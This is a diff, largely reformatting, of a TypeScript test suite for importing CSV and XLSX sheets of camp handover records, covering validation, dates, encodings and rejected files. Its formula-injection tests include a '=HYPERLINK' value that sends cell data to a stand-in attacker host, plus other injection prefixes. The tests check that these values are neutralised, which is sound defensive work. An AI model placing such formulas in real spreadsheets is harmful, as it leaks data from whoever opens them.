@@ -22,20 +22,41 @@ const HEADER = CANONICAL_COLUMNS.join(',');
 const csv = (...rows: string[]) => Buffer.from([HEADER, ...rows].join('\r\n') + '\r\n', 'utf8');
 const row = (ref: string, over: Partial<Record<(typeof CANONICAL_COLUMNS)[number], string>> = {}) => {
   const base: Record<string, string> = {
-    reference_no: ref, handover_date: '2023-02-16', receiving_country: 'KG', delegation_head_name: 'Arslan Tokobaev',
-    delegation_head_title: 'Head of delegation', delegation_body: 'Ministry of Foreign Affairs', handing_official_name: 'سامر حسن',
-    location: 'Qamishli', camp_of_origin: 'al_hol', women_count: '18', children_count: '41', boys_count: '20', girls_count: '21',
-    unaccompanied_count: '0', men_count: '0', notes: '', ...over,
+    reference_no: ref,
+    handover_date: '2023-02-16',
+    receiving_country: 'KG',
+    delegation_head_name: 'Arslan Tokobaev',
+    delegation_head_title: 'Head of delegation',
+    delegation_body: 'Ministry of Foreign Affairs',
+    handing_official_name: 'سامر حسن',
+    location: 'Qamishli',
+    camp_of_origin: 'al_hol',
+    women_count: '18',
+    children_count: '41',
+    boys_count: '20',
+    girls_count: '21',
+    unaccompanied_count: '0',
+    men_count: '0',
+    notes: '',
+    ...over,
   };
-  return CANONICAL_COLUMNS.map((c) => (/[",\r\n]/.test(base[c]) ? `"${base[c].replace(/"/g, '""')}"` : base[c])).join(',');
+  return CANONICAL_COLUMNS.map((c) => (/[",\r\n]/.test(base[c]) ? `"${base[c].replace(/"/g, '""')}"` : base[c])).join(
+    ',',
+  );
 };
-const run = (data: Buffer, options: ImportOptions = {}, name = 'sheet.csv') => importFile(app.ctx, app.caller, { name, data }, options);
-const count = (table = 'handovers') => (app.ctx.db.sqlite.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;
-const snapshotDb = () => ['handovers', 'handover_versions', 'audit_log', 'handover_search', 'settings'].map((t) => count(t));
+const run = (data: Buffer, options: ImportOptions = {}, name = 'sheet.csv') =>
+  importFile(app.ctx, app.caller, { name, data }, options);
+const count = (table = 'handovers') =>
+  (app.ctx.db.sqlite.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;
+const snapshotDb = () =>
+  ['handovers', 'handover_versions', 'audit_log', 'handover_search', 'settings'].map((t) => count(t));
 
 async function fileError(data: Buffer, options: ImportOptions = {}): Promise<AppError> {
   const before = snapshotDb();
-  const err = await run(data, options).then(() => null, (e: unknown) => e);
+  const err = await run(data, options).then(
+    () => null,
+    (e: unknown) => e,
+  );
   expect(err).toBeInstanceOf(AppError);
   expect(snapshotDb()).toEqual(before);
   return err as AppError;
@@ -43,12 +64,30 @@ async function fileError(data: Buffer, options: ImportOptions = {}): Promise<App
 
 describe('import of the canonical CSV', () => {
   it('records finalized, imported handovers with version 1 as finalize freezes it, and audits the file name and SHA-256', async () => {
-    const data = csv(row('HO-2023-0001'), row('HO-2023-0002', { receiving_country: 'France', camp_of_origin: 'roj', women_count: '15', children_count: '32', boys_count: '', girls_count: '' }));
+    const data = csv(
+      row('HO-2023-0001'),
+      row('HO-2023-0002', {
+        receiving_country: 'France',
+        camp_of_origin: 'roj',
+        women_count: '15',
+        children_count: '32',
+        boys_count: '',
+        girls_count: '',
+      }),
+    );
     const r = await run(data, {}, 'office-2023.csv');
     expect(r.counts).toEqual({ rows: 2, new: 2, unchanged: 0, conflict: 0, rejected: 0 });
     expect(r.committed).toBe(true);
     const h = getHandoverByReference(app.ctx.db.orm, 'HO-2023-0002')!;
-    expect(h).toMatchObject({ status: 'finalized', version: 1, source: 'import', sourceRef: sha256(data), receivingCountry: 'FR', camp: 'roj', boysCount: 0 });
+    expect(h).toMatchObject({
+      status: 'finalized',
+      version: 1,
+      source: 'import',
+      sourceRef: sha256(data),
+      receivingCountry: 'FR',
+      camp: 'roj',
+      boysCount: 0,
+    });
     expect(h.handingAuthority).toBe('Department of Foreign Relations, Qamishli'); // the office's setting
     const versions = listVersions(app.ctx.db.orm, h.id);
     expect(versions).toHaveLength(1);
@@ -70,7 +109,9 @@ describe('import of the canonical CSV', () => {
 
   it('a dry run reports the same outcome and writes nothing', async () => {
     const before = snapshotDb();
-    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { receiving_country: 'Narnia' })), { dryRun: true });
+    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { receiving_country: 'Narnia' })), {
+      dryRun: true,
+    });
     expect(r.counts).toMatchObject({ new: 1, rejected: 1 });
     expect(r.committed).toBe(false);
     expect(snapshotDb()).toEqual(before);
@@ -79,18 +120,39 @@ describe('import of the canonical CSV', () => {
 
 describe('a status column (our export writes one): drafts stay drafts, void stays void', () => {
   const withState = (...rows: [string, string, string][]) =>
-    Buffer.from([`${HEADER},status,void_reason`, ...rows.map(([ref, status, reason]) => `${row(ref)},${status},${reason}`)].join('\r\n') + '\r\n', 'utf8');
+    Buffer.from(
+      [`${HEADER},status,void_reason`, ...rows.map(([ref, status, reason]) => `${row(ref)},${status},${reason}`)].join(
+        '\r\n',
+      ) + '\r\n',
+      'utf8',
+    );
 
   it('reads the codes and the app’s words in Arabic and Kurdish; a void record keeps its reason and version 1', async () => {
-    const r = await run(withState(['HO-1', 'finalized', ''], ['HO-2', 'مسودة', ''], ['HO-3', 'ملغى', 'Duplicate of HO-1'], ['HO-4', 'Betalkirî', 'Ducarî'], ['HO-5', '', '']));
+    const r = await run(
+      withState(
+        ['HO-1', 'finalized', ''],
+        ['HO-2', 'مسودة', ''],
+        ['HO-3', 'ملغى', 'Duplicate of HO-1'],
+        ['HO-4', 'Betalkirî', 'Ducarî'],
+        ['HO-5', '', ''],
+      ),
+    );
     expect(r.counts).toMatchObject({ new: 5, rejected: 0 });
     const get = (ref: string) => getHandoverByReference(app.ctx.db.orm, ref)!;
-    expect(['HO-1', 'HO-2', 'HO-3', 'HO-4', 'HO-5'].map((ref) => get(ref).status)).toEqual(['finalized', 'draft', 'void', 'void', 'finalized']);
+    expect(['HO-1', 'HO-2', 'HO-3', 'HO-4', 'HO-5'].map((ref) => get(ref).status)).toEqual([
+      'finalized',
+      'draft',
+      'void',
+      'void',
+      'finalized',
+    ]);
     expect(get('HO-3').voidReason).toBe('Duplicate of HO-1');
     expect(get('HO-1').voidReason).toBeNull();
     expect(listVersions(app.ctx.db.orm, get('HO-3').id)).toHaveLength(1);
     expect(listVersions(app.ctx.db.orm, get('HO-2').id)).toHaveLength(0);
-    expect((await listAudit(app.ctx.db.orm, 'import', r.sha256))[0].details).toMatchObject({ statuses: { finalized: 2, draft: 1, void: 2 } });
+    expect((await listAudit(app.ctx.db.orm, 'import', r.sha256))[0].details).toMatchObject({
+      statuses: { finalized: 2, draft: 1, void: 2 },
+    });
   });
 
   it('an unknown status, or void without a reason, rejects the row with its line', async () => {
@@ -136,7 +198,15 @@ describe('idempotency and conflicts', () => {
 
   it('a record typed in the app and the same row in a sheet are the same handover', async () => {
     await app.must('handovers:create', { data: kyrgyzHandover({ handingOfficialName: 'سامر حسن' }) });
-    const r = await run(csv(row('HO-2023-0001', { delegation_body: 'Ministry of Foreign Affairs of the Kyrgyz Republic', handover_date: '16/02/2023', receiving_country: 'Kyrgyzstan' })));
+    const r = await run(
+      csv(
+        row('HO-2023-0001', {
+          delegation_body: 'Ministry of Foreign Affairs of the Kyrgyz Republic',
+          handover_date: '16/02/2023',
+          receiving_country: 'Kyrgyzstan',
+        }),
+      ),
+    );
     expect(r.counts).toMatchObject({ unchanged: 1, new: 0 });
   });
 
@@ -157,14 +227,18 @@ describe('idempotency and conflicts', () => {
 
   it('strict mode writes nothing when one row is rejected', async () => {
     const before = snapshotDb();
-    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { handover_date: '31/02/2023' })), { strict: true });
+    const r = await run(csv(row('HO-2023-0001'), row('HO-2023-0002', { handover_date: '31/02/2023' })), {
+      strict: true,
+    });
     expect(r.counts).toMatchObject({ new: 1, rejected: 1 });
     expect(r.committed).toBe(false);
     expect(snapshotDb()).toEqual(before);
   });
 
   it('duplicated references inside one file: an identical copy is dropped, differing copies are both rejected', async () => {
-    const r = await run(csv(row('HO-1'), row('HO-1'), row('HO-2'), row('HO-2', { women_count: '3' }), row('ho-2', { women_count: '4' })));
+    const r = await run(
+      csv(row('HO-1'), row('HO-1'), row('HO-2'), row('HO-2', { women_count: '3' }), row('ho-2', { women_count: '4' })),
+    );
     expect(r.rows.map((o) => [o.line, o.outcome, o.reasons[0]?.key ?? ''])).toEqual([
       [2, 'new', ''],
       [3, 'rejected', 'io.reason.duplicate_in_file'],
@@ -178,17 +252,21 @@ describe('idempotency and conflicts', () => {
 
 describe('rows rejected with their line number and a reason key', () => {
   it('reports each bad row, its column and value; line numbers count physical lines', async () => {
-    const r = await run(csv(
-      row('HO-1', { notes: 'two\nlines' }),
-      row('HO-2', { handover_date: '03/04/2023' }),
-      row('HO-3', { receiving_country: 'Atlantis' }),
-      row('HO-4', { boys_count: '30', girls_count: '30' }),
-      row('HO-5', { women_count: 'twelve' }),
-      row('', {}),
-      row('HO-7', { women_count: '0', children_count: '0', boys_count: '0', girls_count: '0' }),
-      row('HO-8', { camp_of_origin: '' }),
-    ));
-    const byLine = Object.fromEntries(r.rows.filter((o) => o.outcome === 'rejected').map((o) => [o.line, o.reasons.map((x) => `${x.column}:${x.key}`)]));
+    const r = await run(
+      csv(
+        row('HO-1', { notes: 'two\nlines' }),
+        row('HO-2', { handover_date: '03/04/2023' }),
+        row('HO-3', { receiving_country: 'Atlantis' }),
+        row('HO-4', { boys_count: '30', girls_count: '30' }),
+        row('HO-5', { women_count: 'twelve' }),
+        row('', {}),
+        row('HO-7', { women_count: '0', children_count: '0', boys_count: '0', girls_count: '0' }),
+        row('HO-8', { camp_of_origin: '' }),
+      ),
+    );
+    const byLine = Object.fromEntries(
+      r.rows.filter((o) => o.outcome === 'rejected').map((o) => [o.line, o.reasons.map((x) => `${x.column}:${x.key}`)]),
+    );
     expect(byLine).toEqual({
       4: ['handover_date:io.reason.ambiguous_date'],
       5: ['receiving_country:validation.unknown_country'],
@@ -202,21 +280,34 @@ describe('rows rejected with their line number and a reason key', () => {
   });
 
   it('an ambiguous date is settled by --date-order, or by the other rows of the file', async () => {
-    expect((await run(csv(row('HO-1', { handover_date: '03/04/2023' })), { dryRun: true, dateOrder: 'mdy' })).counts.new).toBe(1);
-    const r = await run(csv(row('HO-1', { handover_date: '03/04/2023' }), row('HO-2', { handover_date: '25/12/2023' })));
+    expect(
+      (await run(csv(row('HO-1', { handover_date: '03/04/2023' })), { dryRun: true, dateOrder: 'mdy' })).counts.new,
+    ).toBe(1);
+    const r = await run(
+      csv(row('HO-1', { handover_date: '03/04/2023' }), row('HO-2', { handover_date: '25/12/2023' })),
+    );
     expect(r.dateOrder).toBe('dmy');
     expect(getHandoverByReference(app.ctx.db.orm, 'HO-1')!.handoverDate).toBe('2023-04-03');
   });
 
   it('unknown columns are reported, missing optional ones default', async () => {
-    const data = Buffer.from('reference_no,handover_date,receiving_country,delegation_head_name,camp_of_origin,women_count,colour\nHO-9,2020-01-01,DE,Max Muster,roj,2,blue\n');
+    const data = Buffer.from(
+      'reference_no,handover_date,receiving_country,delegation_head_name,camp_of_origin,women_count,colour\nHO-9,2020-01-01,DE,Max Muster,roj,2,blue\n',
+    );
     const r = await run(data);
     expect(r.unknownColumns).toEqual(['colour']);
     // handing_official_name has no column and no default in the settings: the row says so.
-    expect(r.rows[0].reasons).toEqual([{ key: 'validation.required', column: 'handing_official_name', value: undefined }]);
+    expect(r.rows[0].reasons).toEqual([
+      { key: 'validation.required', column: 'handing_official_name', value: undefined },
+    ]);
     await app.must('settings:set', { patch: { handingOfficialName: 'سامر حسن' } });
     expect((await run(data)).counts.new).toBe(1);
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-9')).toMatchObject({ childrenCount: 0, notes: '', location: '', handingOfficialName: 'سامر حسن' });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-9')).toMatchObject({
+      childrenCount: 0,
+      notes: '',
+      location: '',
+      handingOfficialName: 'سامر حسن',
+    });
   });
 });
 
@@ -224,7 +315,9 @@ describe('delimiters', () => {
   it('takes the delimiter from the header line, not from data full of semicolons', async () => {
     const r = await run(csv(row('HO-1', { delegation_head_name: 'x;y x;y', handing_official_name: 'a;b;c' })));
     expect(r).toMatchObject({ delimiter: ',', counts: { new: 1 } });
-    const tab = await run(Buffer.from(`${HEADER.replace(/,/g, '\t')}\n${row('HO-2').replace(/,/g, '\t')}\n`), { dryRun: true });
+    const tab = await run(Buffer.from(`${HEADER.replace(/,/g, '\t')}\n${row('HO-2').replace(/,/g, '\t')}\n`), {
+      dryRun: true,
+    });
     expect(tab).toMatchObject({ delimiter: '\t', counts: { new: 1 } });
   });
 });
@@ -235,9 +328,22 @@ describe('Arabic files', () => {
     expect(r.encoding).toBe('utf-8');
     expect(r.unknownColumns).toEqual([]);
     expect(r.counts).toMatchObject({ new: 3, rejected: 0 });
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0101')).toMatchObject({ handoverDate: '2019-11-05', receivingCountry: 'KZ', camp: 'al_hol', womenCount: 12, childrenCount: 30, notes: 'تسليم وفق وثيقة رسمية، بحضور ممثلين' });
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2021-0103')).toMatchObject({ receivingCountry: 'XK', camp: 'al_hol' });
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2020-0102')).toMatchObject({ receivingCountry: 'RU', delegationHeadName: 'Анна Кузнецова' });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0101')).toMatchObject({
+      handoverDate: '2019-11-05',
+      receivingCountry: 'KZ',
+      camp: 'al_hol',
+      womenCount: 12,
+      childrenCount: 30,
+      notes: 'تسليم وفق وثيقة رسمية، بحضور ممثلين',
+    });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2021-0103')).toMatchObject({
+      receivingCountry: 'XK',
+      camp: 'al_hol',
+    });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2020-0102')).toMatchObject({
+      receivingCountry: 'RU',
+      delegationHeadName: 'Анна Кузнецова',
+    });
   });
 
   it('reads Windows-1256 with semicolons, and the same file with a UTF-8 BOM, to the same records', async () => {
@@ -245,8 +351,16 @@ describe('Arabic files', () => {
     const r = await run(bytes);
     expect(r).toMatchObject({ encoding: 'windows-1256', delimiter: ';', dateOrder: 'dmy' });
     expect(r.counts).toMatchObject({ new: 3, rejected: 0 });
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0201')).toMatchObject({ receivingCountry: 'KZ', handingOfficialName: 'سامر حسن', menCount: 33, notes: 'تسليم وفق وثيقة رسمية' });
-    const utf8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(iconv.decode(bytes, 'windows-1256'), 'utf8')]);
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0201')).toMatchObject({
+      receivingCountry: 'KZ',
+      handingOfficialName: 'سامر حسن',
+      menCount: 33,
+      notes: 'تسليم وفق وثيقة رسمية',
+    });
+    const utf8 = Buffer.concat([
+      Buffer.from([0xef, 0xbb, 0xbf]),
+      Buffer.from(iconv.decode(bytes, 'windows-1256'), 'utf8'),
+    ]);
     const again = await run(utf8);
     expect(again).toMatchObject({ encoding: 'utf-8' });
     expect(again.counts).toMatchObject({ unchanged: 3, new: 0 });
@@ -255,23 +369,50 @@ describe('Arabic files', () => {
 
 describe('receiving countries and dates', () => {
   it.each([
-    ['KG', 'KG'], ['kgz', 'KG'], ['Kyrgyzstan', 'KG'], ['قيرغيزستان', 'KG'], ['Kosovo', 'XK'], ['XKX', 'XK'], ['كوسوفو', 'XK'], ['Kosova', 'XK'],
-    ['DEU', 'DE'], ['germany', 'DE'], ['ألمانيا', 'DE'], ['Almanya', 'DE'], ['TÜRKIYE', 'TR'], ['Turkey', 'TR'], ['fransa', 'FR'], ['The Netherlands', 'NL'],
-    ['Atlantis', null], ['', null], ['XX', null],
+    ['KG', 'KG'],
+    ['kgz', 'KG'],
+    ['Kyrgyzstan', 'KG'],
+    ['قيرغيزستان', 'KG'],
+    ['Kosovo', 'XK'],
+    ['XKX', 'XK'],
+    ['كوسوفو', 'XK'],
+    ['Kosova', 'XK'],
+    ['DEU', 'DE'],
+    ['germany', 'DE'],
+    ['ألمانيا', 'DE'],
+    ['Almanya', 'DE'],
+    ['TÜRKIYE', 'TR'],
+    ['Turkey', 'TR'],
+    ['fransa', 'FR'],
+    ['The Netherlands', 'NL'],
+    ['Atlantis', null],
+    ['', null],
+    ['XX', null],
   ])('%s → %s', (input, code) => {
     const r = resolveCountryName(input);
     expect(r.ok ? r.code : null).toBe(code);
   });
 
   it.each([
-    ['2023-02-16', undefined, '2023-02-16'], ['16/02/2023', undefined, '2023-02-16'], ['16.02.2023', undefined, '2023-02-16'], ['16-2-2023', undefined, '2023-02-16'],
-    ['05/05/2023', undefined, '2023-05-05'], ['03/04/2023', 'dmy', '2023-04-03'], ['03/04/2023', 'mdy', '2023-03-04'], ['١٦/٠٢/٢٠٢٣', undefined, '2023-02-16'],
-  ] as const)('%s (%s) → %s', (input, order, iso) => expect(parseDate(input, order)).toEqual({ ok: true, iso, precision: 'day' }));
-
-  it.each([['03/04/2023', 'ambiguous_date'], ['31/02/2023', 'invalid_date'], ['2023-13-01', 'invalid_date'], ['Feb 30 2023', 'invalid_date'], ['13/13/2023', 'invalid_date']])(
-    '%s is %s',
-    (input, key) => expect(parseDate(input)).toEqual({ ok: false, key }),
+    ['2023-02-16', undefined, '2023-02-16'],
+    ['16/02/2023', undefined, '2023-02-16'],
+    ['16.02.2023', undefined, '2023-02-16'],
+    ['16-2-2023', undefined, '2023-02-16'],
+    ['05/05/2023', undefined, '2023-05-05'],
+    ['03/04/2023', 'dmy', '2023-04-03'],
+    ['03/04/2023', 'mdy', '2023-03-04'],
+    ['١٦/٠٢/٢٠٢٣', undefined, '2023-02-16'],
+  ] as const)('%s (%s) → %s', (input, order, iso) =>
+    expect(parseDate(input, order)).toEqual({ ok: true, iso, precision: 'day' }),
   );
+
+  it.each([
+    ['03/04/2023', 'ambiguous_date'],
+    ['31/02/2023', 'invalid_date'],
+    ['2023-13-01', 'invalid_date'],
+    ['Feb 30 2023', 'invalid_date'],
+    ['13/13/2023', 'invalid_date'],
+  ])('%s is %s', (input, key) => expect(parseDate(input)).toEqual({ ok: false, key }));
 });
 
 describe('bad files: a clear report, nothing changed', () => {
@@ -286,9 +427,15 @@ describe('bad files: a clear report, nothing changed', () => {
   it('binary garbage, a PNG, a PDF, an old .xls, a damaged .xlsx', async () => {
     const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
     expect(await reason(garbage)).toBe('io.file.not_tabular');
-    expect(await reason(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage]))).toBe('io.file.not_tabular');
-    expect(await reason(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n\x00\x01\x02\x03'))).toBe('io.file.not_tabular');
-    expect(await reason(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), garbage]))).toBe('io.file.xls_not_supported');
+    expect(await reason(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage]))).toBe(
+      'io.file.not_tabular',
+    );
+    expect(await reason(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\n\x00\x01\x02\x03'))).toBe(
+      'io.file.not_tabular',
+    );
+    expect(await reason(Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), garbage]))).toBe(
+      'io.file.xls_not_supported',
+    );
     expect(await reason(Buffer.concat([Buffer.from('PK\x03\x04'), garbage]))).toBe('io.file.unreadable_xlsx');
   });
 
@@ -298,20 +445,28 @@ describe('bad files: a clear report, nothing changed', () => {
   });
 
   it('mixed encodings (UTF-8 lines and Windows-1256 lines)', async () => {
-    const data = Buffer.concat([csv(row('HO-1', { notes: 'ملاحظة' })), iconv.encode(`${row('HO-2', { notes: 'ملاحظة' })}\r\n`, 'windows-1256')]);
+    const data = Buffer.concat([
+      csv(row('HO-1', { notes: 'ملاحظة' })),
+      iconv.encode(`${row('HO-2', { notes: 'ملاحظة' })}\r\n`, 'windows-1256'),
+    ]);
     expect(await reason(data)).toBe('io.file.mixed_encoding');
   });
 
   it('a sheet without the required columns names them', async () => {
     const err = await fileError(Buffer.from('name,age\nx,1\n'));
-    expect(err.details).toMatchObject({ reason: 'io.file.missing_columns', params: { columns: 'reference_no, handover_date, receiving_country, delegation_head_name, camp_of_origin' } });
+    expect(err.details).toMatchObject({
+      reason: 'io.file.missing_columns',
+      params: { columns: 'reference_no, handover_date, receiving_country, delegation_head_name, camp_of_origin' },
+    });
   });
 });
 
 describe('formula injection', () => {
   it('a =HYPERLINK cell is stored as text, exported with a leading apostrophe, and reads back unchanged', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-    await run(csv(row('HO-1', { notes: evil, delegation_head_name: '@SUM(1+1)', delegation_body: '+cmd', location: '-2+3' })));
+    await run(
+      csv(row('HO-1', { notes: evil, delegation_head_name: '@SUM(1+1)', delegation_body: '+cmd', location: '-2+3' })),
+    );
     const h = getHandoverByReference(app.ctx.db.orm, 'HO-1')!;
     expect(h.notes).toBe(evil);
     for (const format of ['csv', 'xlsx'] as const) {
@@ -334,15 +489,55 @@ describe('XLSX from other offices', () => {
     const ExcelJS = (await import('exceljs')).default;
     const wb = new ExcelJS.Workbook();
     const ws = wb.addWorksheet('سجل');
-    ws.addRow(['Reference', 'Date', 'Country', 'Head of delegation', 'المسؤول المسلم', 'Camp', 'Women', 'Children', 'Notes']);
-    ws.addRow(['HO-2019-0401', new Date(Date.UTC(2019, 10, 5)), 'Kazakhstan', { richText: [{ text: 'Ahmed ' }, { text: 'Aliyev', font: { bold: true } }] }, 'سامر حسن', 'Hol', 12, { formula: 'B3+1', result: 30 }, { text: 'protocol', hyperlink: 'http://example.org' }]);
-    ws.addRow(['HO-2019-0402', new Date(Date.UTC(2019, 0, 2)), 'KAZ', 'X', 'Y', 'Roj', 1, 0, { formula: 'HYPERLINK("http://evil","x")', result: 'x' }]);
+    ws.addRow([
+      'Reference',
+      'Date',
+      'Country',
+      'Head of delegation',
+      'المسؤول المسلم',
+      'Camp',
+      'Women',
+      'Children',
+      'Notes',
+    ]);
+    ws.addRow([
+      'HO-2019-0401',
+      new Date(Date.UTC(2019, 10, 5)),
+      'Kazakhstan',
+      { richText: [{ text: 'Ahmed ' }, { text: 'Aliyev', font: { bold: true } }] },
+      'سامر حسن',
+      'Hol',
+      12,
+      { formula: 'B3+1', result: 30 },
+      { text: 'protocol', hyperlink: 'http://example.org' },
+    ]);
+    ws.addRow([
+      'HO-2019-0402',
+      new Date(Date.UTC(2019, 0, 2)),
+      'KAZ',
+      'X',
+      'Y',
+      'Roj',
+      1,
+      0,
+      { formula: 'HYPERLINK("http://evil","x")', result: 'x' },
+    ]);
     const data = Buffer.from(await wb.xlsx.writeBuffer());
     const r = await run(data, {}, 'office.xlsx');
     expect(r).toMatchObject({ format: 'xlsx', encoding: 'xlsx', unknownColumns: [] });
     expect(r.counts).toMatchObject({ new: 2, rejected: 0 });
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0401')).toMatchObject({ handoverDate: '2019-11-05', receivingCountry: 'KZ', delegationHeadName: 'Ahmed Aliyev', camp: 'al_hol', childrenCount: 30, notes: 'protocol' });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0401')).toMatchObject({
+      handoverDate: '2019-11-05',
+      receivingCountry: 'KZ',
+      delegationHeadName: 'Ahmed Aliyev',
+      camp: 'al_hol',
+      childrenCount: 30,
+      notes: 'protocol',
+    });
     // 2 January, not 1 February: a date cell is a date, not text to guess at.
-    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0402')).toMatchObject({ handoverDate: '2019-01-02', notes: 'x' });
+    expect(getHandoverByReference(app.ctx.db.orm, 'HO-2019-0402')).toMatchObject({
+      handoverDate: '2019-01-02',
+      notes: 'x',
+    });
   });
 });
